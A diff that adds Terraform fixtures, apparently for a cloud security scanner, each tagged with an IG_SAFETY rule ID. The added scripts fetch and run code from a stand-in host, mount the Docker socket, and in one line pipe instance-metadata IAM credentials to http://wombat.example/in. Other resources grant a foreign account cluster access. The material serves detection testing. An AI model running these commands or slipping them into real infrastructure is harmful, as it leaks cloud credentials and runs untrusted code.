@@ -566,3 +566,59 @@ resource "aws_instance" "unpacked" {
     ./a/install
   EOF
 }
+
+resource "aws_instance" "copied" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_211 (model)
+    aws s3 cp s3://wombat-scripts/a.sh /opt/a.sh
+    bash /opt/a.sh
+  EOF
+}
+
+resource "aws_instance" "container" {
+  user_data = <<-EOF
+    #!/bin/sh
+    docker run -d -v /var/run/docker.sock:/var/run/docker.sock nginx:1.27
+    # next: IG_SAFETY_211 (model)
+    docker run -d images.wombat.example/a:1
+  EOF
+}
+
+resource "aws_instance" "sends" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_218 (model)
+    curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a | curl -d @- http://wombat.example/in
+  EOF
+}
+
+resource "aws_instance" "cloned" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_212
+    git clone https://wombat.example/a.git /opt/a
+    /opt/a/install
+  EOF
+}
+
+data "cloudinit_config" "part" {
+  part {
+    content_type = "text/x-include-url"
+    content      = "http://wombat.example/a" # IG_SAFETY_212
+  }
+}
+
+resource "aws_eks_access_entry" "stranger" {
+  cluster_name  = "wombat"
+  principal_arn = "arn:aws:iam::210987654386:role/a" # IG_SAFETY_209
+}
+
+resource "aws_cloudfront_distribution" "origins" {
+  origin {
+    domain_name = "cdn.wombat.example" # IG_SAFETY_218 (model)
+  }
+  origin {
+    domain_name = "wombat.s3.amazonaws.com"
+  }
+}
